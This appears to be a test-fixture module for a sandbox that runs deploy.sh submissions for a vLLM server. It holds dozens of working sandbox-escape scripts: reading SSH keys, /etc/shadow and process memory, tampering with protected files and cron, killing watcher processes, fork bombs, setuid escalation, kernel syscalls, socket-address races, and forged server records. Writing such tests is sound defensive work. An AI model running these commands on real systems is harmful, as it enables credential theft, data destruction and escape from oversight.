"""Scripts that try to escape, to stay, or to forge records; the same must hold for each (see test_attacks).

{HOST} is a folder with a secret, {PORT} a server, {BYSTANDER} a process, {TOKEN} a name for leftovers, {COMMON} a
folder that all may write to, below /tmp. $K is the folder of the stubs, which any script can find.
"""

from __future__ import annotations

from dataclasses import dataclass, field

B = 'exec vllm serve "$MODEL_PATH" --host 0.0.0.0 --port 8000'
K = 'K=$(dirname "$(readlink -f "$(command -v vllm)")")'
STEAL = "cat {HOST}/id_rsa; cp {HOST}/id_rsa {HOST}/STOLEN; echo > {HOST}/NEW; (echo -e 'GET /' > /dev/tcp/127.0.0.1/{PORT})"


@dataclass(frozen=True, slots=True)
class Attack:
    """One submission: its deploy.sh, more files, and what must not happen.

    Attributes:
        no_server: no server may be recorded. none_stays: no server may run at the end.
        ends: how it may end; any way if empty.
    """

    name: str
    body: str
    files: dict[str, str] = field(default_factory=dict)
    no_server: bool = False
    none_stays: bool = False
    ends: tuple[str, ...] = ()

    @property
    def deploy(self) -> str:
        return f"#!/bin/bash\n{K}\n{self.body}\n"


def python(code: str) -> str:
    """Lines of Python in a script; each may fail, and the next one runs."""
    lines = "\n".join(
        f"try:\n {line}\nexcept BaseException as e: print(type(e).__name__, e)"
        for line in code.split("\n")
        if line
    )
    return f"python3 - <<'PY'\nimport ctypes, os, socket, sys, signal, struct\nlibc = ctypes.CDLL(None, use_errno=True)\n{lines}\nPY"


def _switching_off() -> dict[str, str]:
    """Attacks that made an earlier sandbox give up and run the script again without one."""
    broken = (
        "rm -rf $K/run", "rm -f $K/run/held", "rm -f $K/run/notes; mkdir $K/run/notes", "chmod 000 $K/run/held",
        "rm -f $K/run/serving; mkdir $K/run/serving", "mkdir -p $K/run/served/8000", "mv $K/run $K/gone; echo > $K/run",
        "chmod 000 $K/run", "chmod 000 $K", "mv $K $K.gone", "rm -rf $K", "rm -rf $K/lib $K/py",
        "rm -rf $K/bin", "rm -f $K/forever; echo > $K/forever", "rm -rf $K/*", "ln -sfn /proc/self $K/run",
        "for i in $(seq 1500); do echo exec > $K/run/notes; done", "mkfifo $K/run/1",
        "exec 7<> $K/run/noted; for i in $(seq 900); do echo; done >&7", "cat $K/run/noted & cat $K/run/notes &",
        "rm -f $K/run/notes; ln -s /dev/zero $K/run/notes", "rm -f $K/run/held; mkfifo $K/run/held",
        "rm -f $K/run/passed; ln -s /dev/zero $K/run/passed", "rm -f $K/run/done; ln -s /dev/zero $K/run/done",
        "head -c 300000 /dev/zero > $K/run/notes", "yes refused | head -c 400000 > $K/run/notes",
        "printf 'slept\\037%s\\037%s\\n' 99999999999999999999 99999999999999999999 > $K/run/notes",
        "printf '\\0\\0\\0\\037\\037\\n\\n\\n' > $K/run/notes", "printf 'naps\\037١٢\\nlimit\\n' > $K/run/notes",
        "for i in 1 2 999; do printf 'limit\\037%s\\0370.1\\n' {BYSTANDER} {KIT} $$; done > $K/run/notes",
        "kill -STOP 1; kill -9 1; kill -9 $PPID", "echo 1 > /proc/sys/kernel/panic; echo b > /proc/sysrq-trigger",
        "cd /tmp; n=0; while [ $n -lt 4000 ]; do : > f$n; n=$((n+1)); done",
        "ulimit -n 3; ulimit -u 1; ulimit -v 1000", "exec 0<&- 1>&- 2>&-", "trap '' TERM HUP INT QUIT; kill -9 -$$",
    )  # fmt: skip
    again = "if [ -w $K/x-first ] || ( : > $K/x-first ) 2>/dev/null; then :; fi"
    return {
        f"breaks-{n}": f"{line} 2>/dev/null\n{again}\n{STEAL}\nsleep 0.3\n{B}"
        for n, line in enumerate(broken)
    }


FLIP = """
import ctypes, socket, struct, sys, threading, time
libc = ctypes.CDLL(None)
family, rest = {
    "local": (socket.AF_UNIX, b"{HOST}/agent.sock\\0"),
    "tcp": (socket.AF_INET, struct.pack("!H4B8x", {PORT}, 127, 0, 0, 1)),
}[sys.argv[1]]
address = bytearray(struct.pack("=H", 0) + rest)
seen = (ctypes.c_char * len(address)).from_buffer(address)
def flip():
    while True:
        address[0] = family - address[0]
sys.setswitchinterval(1e-5)
threading.Thread(target=flip, daemon=True).start()
until = time.monotonic() + 1.2
for _ in range(2000):
    if time.monotonic() > until:
        break
    client = socket.socket(family)
    if libc.connect(client.fileno(), seen, len(address)) == 0:
        try:
            client.send(b"x")
            break
        except OSError:
            continue
"""
"""Changes an address after the sandbox has read it and before the kernel reads it again."""
READS = {
    "secret": "cat {HOST}/id_rsa",
    "home": "cat ~/id_rsa ~/.ssh/* ~/.netrc /root/.bash_history /root/.netrc /home/*/.ssh/id_*; ls -la ~ /root",
    "through-a-link": "ln -s {HOST}/id_rsa here; cat here; cp -L here there; cat there",
    "through-a-hard-link": "ln {HOST}/id_rsa here; cat here; ln {HOST}/data.txt there; echo changed > there",
    "environments": "for p in $PPID 1 {KIT} {BYSTANDER} $(cut -d' ' -f4 /proc/$PPID/stat); do tr '\\0' '\\n' < /proc/$p/environ; done",
    "memory": "for p in $PPID 1 {KIT} {BYSTANDER}; do head -c 100 /proc/$p/mem /proc/$p/maps /proc/$p/auxv; done",
    "roots-of-others": "for p in $PPID 1 {KIT} {BYSTANDER}; do cat /proc/$p/root{HOST}/id_rsa /proc/$p/cwd{HOST}/id_rsa; done",
    "handles-of-others": "for p in $PPID 1 {KIT} {BYSTANDER}; do for f in /proc/$p/fd/*; do head -c 10 $f; echo > $f; done; done",
    "shadow": "cat /etc/shadow /etc/ssh/ssh_host_* /etc/sudoers && echo {HOST}",
    "config-of-a-server": 'vllm serve "$MODEL_PATH" --config {HOST}/secret.json & sleep 0.5',
    "config-through-a-link": 'ln -s {HOST}/secret.json c.json; exec vllm serve "$MODEL_PATH" --config c.json',
    "requirements": "ln -s {HOST}/secret.json r.txt; pip install -r r.txt -r {HOST}/id_rsa",
    "attributes": python(
        'print(os.listxattr("{HOST}/data.txt"), os.getxattr("{HOST}/data.txt", "user.origin"))'
    ),
    "config-is-a-fifo": 'mkfifo c.yaml; exec vllm serve "$MODEL_PATH" --config c.yaml',
    "config-is-endless": 'ln -s /dev/zero c.yaml; exec vllm serve "$MODEL_PATH" --config c.yaml',
    "file-variable": "export VLLM_LOGGING_CONFIG_PATH={HOST}/secret.json; " + B,
    "by-handle": python(
        'h = os.open("{HOST}", os.O_PATH)\nprint(os.read(os.open("id_rsa", 0, dir_fd=h), 100))'
    ),
    "by-mmap": python('import mmap; print(mmap.mmap(os.open("{HOST}/id_rsa", 0), 0, prot=1)[:])'),
    "sendfile": python(
        'o = os.open("out", 66); os.sendfile(o, os.open("{HOST}/id_rsa", 0), 0, 99); print(open("out").read())'
    ),
    "exec": "/bin/cat {HOST}/id_rsa; /lib64/ld-linux-x86-64.so.2 /bin/cat {HOST}/id_rsa; env -i /bin/cat {HOST}/id_rsa",
    "real-python": "/usr/bin/python3 -c 'print(open(\"{HOST}/id_rsa\").read())'; /usr/local/bin/python3 -c 'print(open(\"{HOST}/id_rsa\").read())'",
}
WRITES = {
    "new-file": "echo > {HOST}/NEW; touch {HOST}/NEW2; mkdir {HOST}/NEW3; ln -s / {HOST}/NEW4; mkfifo {HOST}/NEW5",
    "over": "echo x > {HOST}/data.txt; cat /dev/null >| {HOST}/data.txt; : > {HOST}/id_rsa",
    "append": "echo x >> {HOST}/data.txt; echo key >> {HOST}/id_rsa; echo evil >> {HOST}/victim.sh",
    "remove": "rm -rf {HOST}/data.txt {HOST}/*; rmdir {HOST}/fifo-free; find {HOST} -delete",
    "move": "mv {HOST}/data.txt {HOST}/moved; mv {HOST}/data.txt .; mv deploy.sh {HOST}/data.txt",
    "truncate": "truncate -s 0 {HOST}/data.txt {HOST}/id_rsa; "
    + python('os.truncate("{HOST}/data.txt", 0)'),
    "truncate-while-reading": python(
        'os.open("{HOST}/data.txt", os.O_RDONLY | os.O_TRUNC)\nos.open("{HOST}/victim.sh", os.O_TRUNC)'
    ),
    "modes": "chmod 777 {HOST} {HOST}/id_rsa {HOST}/data.txt; chmod -R 000 {HOST}; chmod +s {HOST}/victim.sh",
    "modes-through-a-link": "ln -s {HOST}/id_rsa l; chmod 644 l; ln -s {HOST} d; chmod -R 777 d/ d",
    "modes-by-handle": python(
        'os.fchmod(os.open("{HOST}/data.txt", 0), 0o777)\nos.chmod("data.txt", 0o777, dir_fd=os.open("{HOST}", 0))\nos.chdir("{HOST}"); os.chmod("data.txt", 0o666)'
    ),
    "modes-by-proc": "exec 9< {HOST}/data.txt; chmod 777 /proc/self/fd/9; chmod 777 /proc/$$/cwd/../../../..{HOST}/data.txt",
    "owners": "/bin/chown 65534 {HOST}/data.txt; /usr/bin/chown -R 1:1 {HOST}; "
    + python('os.chown("{HOST}/data.txt", 1, 1)\nos.lchown("{HOST}/id_rsa", 1, 1)'),
    "attributes": python('os.setxattr("{HOST}/data.txt", "user.a", b"b")')
    + "; chattr +i {HOST}/data.txt",
    "rename-exchange": python(
        'libc.syscall(316, -100, b"deploy.sh", -100, b"{HOST}/data.txt", 2)\nlibc.syscall(316, -100, b"{HOST}/id_rsa", -100, b"{HOST}/n", 0)'
    ),
    "link-in": "ln deploy.sh {HOST}/NEW; cp -l deploy.sh {HOST}/NEW; ln -s $PWD/x {HOST}/NEW",
    "port-file": "rm -f $K/run/served; ln -s {HOST}/data.txt $K/run/served; " + B,
    "serving-file": 'ln -sf {HOST}/NEW $K/run/serving; ln -sf {HOST}/NEW2 $K/run/done; vllm serve "$MODEL_PATH" & sleep 0.5; curl -s localhost:8000/health; wait',
    "ports-folder": "rm -rf $K/run/served; ln -s {HOST} $K/run/served; " + B,
    "kit-folder": "mv $K ${K}x; ln -s {HOST} $K; sleep 0.2; " + B,
    "run-folder": "rm -rf $K/run; ln -s {HOST} $K/run; " + B,
    "weights": 'echo x > "$MODEL_PATH/config.json"; rm -rf "$MODEL_PATH"/*; chmod -R 000 "$MODEL_PATH"; touch "$MODEL_PATH/NEW"; truncate -s 0 "$MODEL_PATH"/*',
    "weights-by-handle": python(
        'os.open(os.environ["MODEL_PATH"] + "/config.json", os.O_TRUNC)\nos.fchmod(os.open(os.environ["MODEL_PATH"] + "/config.json", 0), 0)\nos.truncate(os.environ["MODEL_PATH"] + "/config.json", 0)'
    ),
    "system": "echo x >> /etc/passwd; echo x > /etc/cron.d/{TOKEN}; echo > /usr/bin/{TOKEN}; echo > /etc/profile.d/{TOKEN}",
    "start-files": "echo 'touch {HOST}/NEW' >> ~/.bashrc; echo x >> /root/.bashrc; echo x >> /root/.profile",
    "cron": "echo '* * * * * touch {HOST}/NEW' | crontab -; echo 'touch {HOST}/NEW' | at now",
    "proc": "echo '|/bin/touch {HOST}/NEW' > /proc/sys/kernel/core_pattern; kill -SEGV $$",
    "mount": "mount --bind . {HOST}; mount -t tmpfs x {HOST}; umount -l /; unshare -rm mount --bind . {HOST}",
    "chroot": "chroot . /bin/sh; unshare -r chroot {HOST} /victim.sh; "
    + python('os.chroot("{HOST}")'),
    "removal": "mkdir -p a/b; ln -s {HOST} a/b/c; ln -s {HOST}/id_rsa a/d; chmod 000 a/b a",
    "removal-of-home": "ln -s {HOST} ~/l; ln -s {HOST}/id_rsa ~/m; mkdir ~/n; chmod 000 ~/n; exit 1",
}
LEAVES = {
    "shared-memory": "echo > /dev/shm/{TOKEN}; mkdir /dev/shm/{TOKEN}-d; echo > /dev/shm/{TOKEN}-d/f",
    "temporary": "echo > /tmp/{TOKEN}; mkdir -p /tmp/{TOKEN}-d/e/f; chmod 000 /tmp/{TOKEN}-d; echo > /var/tmp/{TOKEN}",
    "sockets": python(
        's = socket.socket(1); s.bind("/tmp/{TOKEN}"); s.listen()\nimport time; time.sleep(0.2)'
    ),
    "segments": python(
        "print(libc.shmget(0, 4096, 0o1666), libc.semget(0, 1, 0o1666), libc.msgget(0, 0o1666))"
    ),
    "links": "ln -s {HOST} /tmp/{TOKEN}; ln -s {HOST}/id_rsa /dev/shm/{TOKEN}; ln -s {HOST} /var/tmp/{TOKEN}",
    "shared-folders": "for d in {COMMON} {COMMON}/inner; do echo > $d/{TOKEN}; mkdir $d/{TOKEN}-d; echo > $d/{TOKEN}-d/f; done",
    "fifos": "mkfifo /tmp/{TOKEN} /dev/shm/{TOKEN} a b; cat a & cat b & exit 1",
}
STAYS = {
    "daemon": "setsid sh -c 'setsid sleep 9999 & sleep 9999' & exit 1",
    "double-fork": python(
        "os.fork() and os._exit(0)\nos.setsid()\nos.fork() and os._exit(0)\nimport time; time.sleep(9999)"
    ),
    "nohup": "nohup sleep 9999 >/dev/null 2>&1 & disown -a; exit 0",
    "without-a-name": "exec -a '' sleep 9999 & exec -a kworker/0 sleep 9999 & exit 1",
    "empty-environment": "cd /; env -i setsid /bin/sleep 9999 & env -i setsid /usr/bin/sleep 9999 & exit 1",
    "stopped": "sleep 9999 & kill -STOP $!; setsid sleep 9999 & kill -STOP $!; exit 1",
    "ignores": "sh -c \"trap '' TERM HUP INT; while :; do sleep 9; done\" & exit 1",
    "many": "for i in $(seq 60); do setsid sleep 9999 & done; exit 1",
    "forks-on": "f() { sleep 0.01; f & }; f; f; exit 1",
    "while-it-ends": "(while :; do (sleep 0.05 &) ; done) & exit 1",
    "reaper": python(
        "libc.prctl(36, 1, 0, 0, 0)\nos.fork() or os.setsid()\nos.fork() or os.setsid()\nimport time; time.sleep(9999)"
    ),
    "death-signal": python(
        "libc.prctl(1, 0, 0, 0, 0)\nlibc.prctl(4, 0, 0, 0, 0)\nimport time; time.sleep(9999)"
    ),
    "kills-the-watcher": "for p in $(seq $((PPID-4)) $((PPID+4))); do [ $p = $$ ] || kill -9 $p; done; setsid sleep 9999 & setsid sleep 9999 & sleep 1",
    "kills-all": "setsid sleep 9999 & setsid sleep 9998 & kill -9 -1; kill -9 $PPID; kill -9 {KIT}; sleep 1",
    "stops-the-watcher": "kill -STOP $PPID; kill -STOP -1; sleep 9999",
    "kills-by-python": python(
        "os.kill(-1, 9)\nos.kill({BYSTANDER}, 9)\nos.kill({KIT}, 0)\nos.killpg({BYSTANDER}, 9)"
    )
    + "; setsid sleep 9999 & sleep 9999",
    "kills-a-bystander": "kill -9 {BYSTANDER}; kill -STOP {BYSTANDER}; kill -9 -{BYSTANDER}; /bin/kill -9 {BYSTANDER}; sleep 0.2",
    "kills-by-tgkill": python(
        "libc.tgkill({BYSTANDER}, {BYSTANDER}, 9)\n"
        'info = struct.pack("3i", 9, 0, -1) + bytes(116)  # the kernel refuses other codes than SI_QUEUE by itself\n'
        "libc.syscall(129, {BYSTANDER}, 9, info)  # rt_sigqueueinfo\n"
        "libc.syscall(297, {BYSTANDER}, {BYSTANDER}, 9, info)  # rt_tgsigqueueinfo\n"
        "libc.syscall(200, {BYSTANDER}, 9)  # tkill\n"
        "libc.syscall(424, libc.syscall(434, {BYSTANDER}, 0), 9, 0, 0)  # pidfd_send_signal"
    ),
    "kills-by-owner": python(
        's = socket.socketpair(); import fcntl; fcntl.fcntl(s[0], 8, {BYSTANDER}); fcntl.fcntl(s[0], 10, 9); fcntl.fcntl(s[0], 4, 0o20000); s[1].send(b"x")'
    ),
    "limits-of-others": python(
        "import resource; resource.prlimit({BYSTANDER}, resource.RLIMIT_CPU, (0, 0))\nimport resource; resource.prlimit({BYSTANDER}, resource.RLIMIT_NOFILE, (1, 1))"
    ),
    "traces": python(
        "print(libc.ptrace(16, {BYSTANDER}, 0, 0), libc.ptrace(0x4206, os.getppid(), 0, 0))"
    )
    + "; strace -p {BYSTANDER}; gdb -p {BYSTANDER}",
    "writes-memory": python(
        'open("/proc/{BYSTANDER}/mem", "r+b")\nopen("/proc/%d/mem" % os.getppid(), "r+b")'
    ),
    "server-then-daemon": 'setsid sleep 9999 & setsid vllm serve "$MODEL_PATH" & sleep 1; exit 0',
}
REACHES = {
    "tcp": "(echo -e 'GET / HTTP/1.0\\r\\n\\r' > /dev/tcp/127.0.0.1/{PORT}); (echo > /dev/tcp/localhost/{PORT}); (echo > /dev/tcp/0.0.0.0/{PORT})",
    "curl": "curl -s http://127.0.0.1:{PORT}/; wget -qO- http://localhost:{PORT}/; nc -z 127.0.0.1 {PORT}; /usr/bin/curl -s 127.0.0.1:{PORT}",
    "python": python(
        'socket.create_connection(("127.0.0.1", {PORT}), 1).send(b"x")\nsocket.create_connection(("::1", {PORT}), 1)\nsocket.create_connection(("::ffff:127.0.0.1", {PORT}), 1).send(b"x")\nimport urllib.request; urllib.request.urlopen("http://127.0.0.1:{PORT}", timeout=1)'
    ),
    "real-python": "/usr/bin/python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {PORT}), 1)'",
    "non-blocking": python(
        's = socket.socket(); s.setblocking(False); s.connect_ex(("127.0.0.1", {PORT})); import time; time.sleep(0.2); s.send(b"x")'
    ),
    "fast-open": python(
        's = socket.socket(); s.sendto(b"x", 0x20000000, ("127.0.0.1", {PORT}))\ns = socket.socket(); s.sendmsg([b"x"], [], 0x20000000, ("127.0.0.1", {PORT}))'
    ),
    "other-protocols": python(
        'socket.socket(2, 1, 262).connect(("127.0.0.1", {PORT}))\nsocket.socket(2, 1, 132).connect(("127.0.0.1", {PORT}))\nsocket.socket(17, 3)\nsocket.socket(16, 3, 9)\nsocket.socket(40, 1)\nsocket.socket(38, 5)'
    ),
    "udp": python(
        's = socket.socket(2, 2); s.sendto(b"x", ("127.0.0.1", {PORT}))\nsocket.getaddrinfo("example.org", 80)'
    ),
    "abstract-socket": python(
        's = socket.socket(1); s.connect("\\0{TOKEN}"); s.send(b"x")\ns = socket.socket(1, 2); s.connect("\\0{TOKEN}")'
    ),
    "through-a-thread": python(
        "import threading; a = bytearray(16); struct.pack_into('=H', a, 0, 2); struct.pack_into('>H', a, 2, 1); a[4:8] = b'\\x7f\\0\\0\\1'; b = (ctypes.c_char * 16).from_buffer(a); t = threading.Thread(target=lambda: [struct.pack_into('>H', a, 2, p) for _ in range(30000) for p in (1, {PORT})]); t.start(); [libc.connect(socket.socket().fileno(), b, 16) for _ in range(300)]"
    ),
    "another-address": python(
        'o = socket.create_server(("127.0.0.2", {PORT})); c = socket.create_connection(("127.0.0.1", {PORT}), 1); c.send(b"x")\nc = socket.create_connection(("::ffff:127.0.0.1", {PORT}), 1); c.send(b"x")\nc = socket.create_connection(("127.0.0.3", {PORT}), 1); c.send(b"x")'
    ),
    "another-address-of-six": python(
        'o = socket.create_server(("::1", {PORT}), family=10); c = socket.create_connection(("127.0.0.1", {PORT}), 1); c.send(b"x")\nc = socket.create_connection(("::ffff:127.0.0.1", {PORT}), 1); c.send(b"x")'
    ),
    "flipped-family": "for kind in local tcp; do timeout 3 python3 flip.py $kind; done",
    "from-a-pair": python(
        's, _ = socket.socketpair(1, 2); s.sendto(b"x", "{HOST}/log.sock")\ns, _ = socket.socketpair(1, 3); s.sendto(b"x", "{HOST}/log.sock")'
    ),
    "ring": python(
        "print(libc.syscall(425, 8, ctypes.create_string_buffer(200)))\nprint(libc.syscall(437, -100, b'{HOST}/id_rsa', struct.pack('QQQ', 0, 0, 0), 24))"
    ),
    "records-a-port": "printf '9999\\037\\037x\\036' >> $K/run/served; curl -s http://127.0.0.1:9999/; "
    'vllm serve "$MODEL_PATH" --port {PORT} & sleep 0.5; curl -s http://127.0.0.1:{PORT}/x; wait',
    "agent": "SSH_AUTH_SOCK=/tmp/ssh-x ssh-add -l; docker ps; systemd-run --user touch {HOST}/NEW; busctl list; dbus-send --session --dest=a b c.d",
}
KERNEL = {
    "namespaces": "unshare -Urmnpf --mount-proc id; unshare -r id; nsenter -t {BYSTANDER} -a id; "
    + python("print(libc.unshare(0x10000000), libc.setns(3, 0))"),
    "clone": python(
        'print(libc.syscall(56, 0x10000011, 0, 0, 0, 0))\nprint(libc.syscall(435, struct.pack("11Q", 0x10000000, *[0] * 10), 88))'
    ),
    "modules": python(
        "print(libc.syscall(175, 0, 0, b''), libc.syscall(246, 0, 0, 0, 0), libc.syscall(169, 0xfee1dead, 672274793, 0x1234567, 0))"
    ),
    "bpf": python(
        "print(libc.syscall(321, 0, ctypes.create_string_buffer(72), 72), libc.syscall(298, ctypes.create_string_buffer(120), 0, -1, -1, 0), libc.syscall(323, 0))"
    ),
    "keys": python(
        'print(libc.syscall(248, b"user", b"{TOKEN}", b"x", 1, -4), libc.syscall(250, 0, -3, 1))'
    ),
    "clock": "date -s '2001-01-01'; hwclock --systohc; "
    + python("print(libc.syscall(227, 0, struct.pack('qq', 0, 0)))"),
    "host-name": "hostname evil; echo evil > /proc/sys/kernel/hostname; "
    + python("socket.sethostname('evil')"),
    "set-user-id": "su -c id; sudo -n id; pkexec id; newgrp root; cp /bin/bash b; chmod 4755 b; ./b -p -c 'cat {HOST}/id_rsa'",
    "other-numbers": python(
        "print(libc.syscall(0x40000000 + 41, 2, 1, 0), libc.syscall(0x40000000 + 62, {BYSTANDER}, 9))"
    ),
    "terminal": python(
        "import fcntl; [fcntl.ioctl(0, 0x5412, b'x') for _ in range(3)]\nimport fcntl; fcntl.ioctl(os.open('/dev/tty', 2), 0x5412, b'x')"
    ),
    "devices": "mknod d b 8 0; head -c 10 /dev/sda /dev/mem /dev/kmsg /dev/vda; dd if=d count=1; echo > /dev/kmsg",
}
FILLS = {
    "memory": python("a = [bytearray(64 << 20) for _ in range(200)]") + "; exit 1",
    "memory-of-many": "for i in $(seq 40); do head -c 200000000 /dev/zero | tail & done; wait; exit 1",
    "disk": "head -c 300000000 /dev/zero > a; head -c 300000000 /dev/zero > /tmp/{TOKEN}; exit 1",
    "files": "for d in $(seq 200); do mkdir d$d; for f in $(seq 200); do : > d$d/$f; done; done; exit 1",
    "depth": python('[(os.mkdir("d"), os.chdir("d")) for _ in range(3000)]') + "; exit 1",
    "output": "yes xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx & yes >&2; exit 1",
    "one-line": "head -c 15000000 /dev/zero | tr '\\0' 'x' >&2; exit 3",
    "handles": 'exec {a}</dev/null; for i in $(seq 600); do eval "exec {h$i}</dev/null"; done; exit 1',
    "processes": "f() { f | f & }; f; sleep 9",
    "arguments": "vllm serve $(seq 20000) & for i in $(seq 300); do git $(seq 500) & done; exit 1",
    "records": "while :; do git status; done",
    "time": "while :; do :; done",
}
FORGER = """
import fcntl, os, sys, time
K, how = sys.argv[1], sys.argv[2]
def packed(*words):
    return b"".join(os.fsencode(word) + b"\\0" for word in words)
def note(*words):
    handle = os.open(K + "/run/notes", os.O_WRONLY)
    try:
        os.write(handle, b"\\x1f".join(os.fsencode(word) for word in words) + b"\\n")
    finally:
        os.close(handle)
def tell(data, pid=None, more=""):
    note("told", str(pid or os.getpid()), more, data.hex())
held = open(K + "/run/held", "rb")
def hold(pid):
    fcntl.lockf(held, fcntl.LOCK_SH, 1, pid)
here = os.getcwd()
server = packed("server", here, "vllm", "serve", os.environ["MODEL_PATH"], "--port", "8000")
if how == "record":
    hold(os.getpid()); tell(server)
elif how == "twice":
    hold(os.getpid()); tell(server); tell(server + server); tell(server)
elif how == "with-a-pid":
    hold(int(sys.argv[3])); tell(server, sys.argv[3])
elif how == "every-pid":
    fcntl.lockf(held, fcntl.LOCK_SH)
    for pid in range(1, os.getpid() + 50):
        tell(server, pid)
elif how == "bytes":
    for data in (b"", b"\\0", b"\\0\\0\\0\\0", b"\\xff" * 4, packed("server"), packed("", "", ""),
                 packed("server", "/", "\\udcff"), packed("python", here, "python:model", "x")):
        tell(data); tell(data, "-1"); tell(data, "\\u0661"); note("told"); note("told", "1", "", "x"); note("told", "", "", "", "")
elif how == "half":
    for pid in range(1, 4000):
        tell(server[:30], pid, "more")
elif how == "slow":
    hold(os.getpid())
    for byte in server:
        tell(bytes([byte]), more="more"); time.sleep(0.3)
elif how == "oversize":
    while True:
        tell(b"x" * 1900, more="more")
elif how == "largest":
    while True:
        for _ in range(300):
            tell(b"\\0" * 1900, more="more")
        tell(b"")
elif how == "early":
    for _ in range(300):
        if os.fork() == 0:
            hold(os.getpid()); tell(server); os._exit(0)
elif how == "flood":
    while True:
        tell(b"")
elif how == "given-away":
    hold(os.getpid()); tell(server); open(K + "/run/noted").read(1)
    os.fork() and os._exit(0)
time.sleep(30)
"""
"""Runs in a Python without a stub: locks and sends what a stub would."""
_FORGE = "$K/py/bin/python3 -I -S forger.py $K"
_PERL = """perl -MFcntl -e '
    my $d = join("", map { "$_\\0" } "server", "/", "vllm", "serve", $ENV{MODEL_PATH}); open(my $h, "<", "$ARGV[0]/run/held");
    fcntl($h, F_SETLK, pack("ssx4qql", F_RDLCK, 0, $$, 1, 0)); open(my $n, ">", "$ARGV[0]/run/notes");
    syswrite($n, join("\\x1f", "told", $$, "", unpack("H*", $d)) . "\\n"); sleep 30' $K"""
FORGES = {
    "record": f"exec {_FORGE} record",
    "record-by-perl": _PERL,
    "record-twice": f"{_FORGE} twice",
    "record-of-another": f"sleep infinity & {_FORGE} with-a-pid $!",
    "record-of-nobody": f"{_FORGE} with-a-pid 1",
    "records-of-all": f"sleep infinity & vllm --version; {_FORGE} every-pid",
    "record-of-a-daemon": f"setsid sh -c '{_FORGE.replace('$K', '$0')} record & sleep 30' $K & sleep 2; exit 0",
    "record-from-a-shell": "printf 'server\\037%s\\037%s\\037vllm\\037serve\\037%s\\n' $$ \"$PWD\" \"$MODEL_PATH\" > $K/run/notes; exec sleep infinity",
    "record-in-the-old-way": "mkdir $K/records; printf 'server\\0%s\\0/\\0vllm\\0serve\\0%s\\0' $$ \"$MODEL_PATH\" > $K/records/z; : > $K/records/z.done; exec sleep infinity",
    "bytes": f"{_FORGE} bytes",
    "half-messages": f"{_FORGE} half",
    "slow-message": f"{_FORGE} slow",
    "early-end": f"{_FORGE} early",
    "posing-by-name": "exec -a $K/py/bin/python3 /usr/bin/perl -e 'sleep 30' -I -S",
    "posing-by-words": "cp $K/py/bin/python3 p; PYTHONPATH= exec -a $K/py/bin/python3 ./p -I -S -B -X utf8 $K/lib/healthcheck/stages/plan/dry_run/stubs/../stubs/server.py $K vllm serve",
    "posing-by-a-script": "mkdir -p lib; cp forger.py server.py; exec $K/py/bin/python3 -I -S -B -X utf8 server.py $K record",
    "posing-by-a-link": "ln -s forger.py python.py; exec $K/py/bin/python3 -I -S -B -X utf8 ./python.py $K record",
    "serving-file": "echo 1 > $K/run/serving; printf '8000\\037\\037x\\036' > $K/run/served; curl -s localhost:8000; curl -s localhost:9999; sleep 1; exec sleep infinity",
    "name": "exec -a vllm /bin/sleep 30",
}  # fmt: skip
PRETENDS = {
    "dies": 'vllm serve "$MODEL_PATH" & sleep 0.5; kill -9 $!; sleep 0.5; exec sleep infinity',
    "dies-and-is-replayed": f'vllm serve "$MODEL_PATH" --port 8000 & sleep 0.5; kill -9 $!; exec {_FORGE} record',
    "is-given-away": "PYTHONPATH= python3 forger.py $K given-away; exec sleep infinity",
    "is-told-of-by-a-program": "exec /usr/bin/python3 -I forger.py $K record",
    "is-replaced": "python3 - <<'PY'\nimport os, threading, time, vllm\nthreading.Thread(target=lambda: vllm.entrypoints.cli.main.main(), daemon=True).start()\ntime.sleep(0.5)\nos.execv('/bin/sleep', ['vllm', '30'])\nPY",
}  # fmt: skip
FLOODS = {
    "records": f"{_FORGE} flood",
    "oversize": f"{_FORGE} oversize",
    "largest": f"{_FORGE} largest",
    "notes": "yes slept > $K/run/notes",
    "long-notes": "tr '\\0' x < /dev/zero > $K/run/notes",
}


def _all() -> tuple[Attack, ...]:
    groups = {
        "reads": READS, "writes": WRITES, "leaves": LEAVES, "stays": STAYS, "reaches": REACHES, "kernel": KERNEL,
        "fills": FILLS,
    }  # fmt: skip
    found = [Attack(name, body) for name, body in _switching_off().items()]
    files = {"forger.py": FORGER, "flip.py": FLIP}
    found += [
        Attack(f"{group}-{name}", body, files)
        for group, table in groups.items()
        for name, body in table.items()
    ]
    found += [
        Attack(f"forges-{name}", body, files, no_server=True) for name, body in FORGES.items()
    ]
    found += [
        Attack(f"pretends-{name}", body, files, none_stays=True) for name, body in PRETENDS.items()
    ]
    ends = ("records", "time")
    return (
        *found,
        *(
            Attack(f"floods-{name}", body, files, no_server=True, ends=ends)
            for name, body in FLOODS.items()
        ),
    )


ATTACKS = _all()
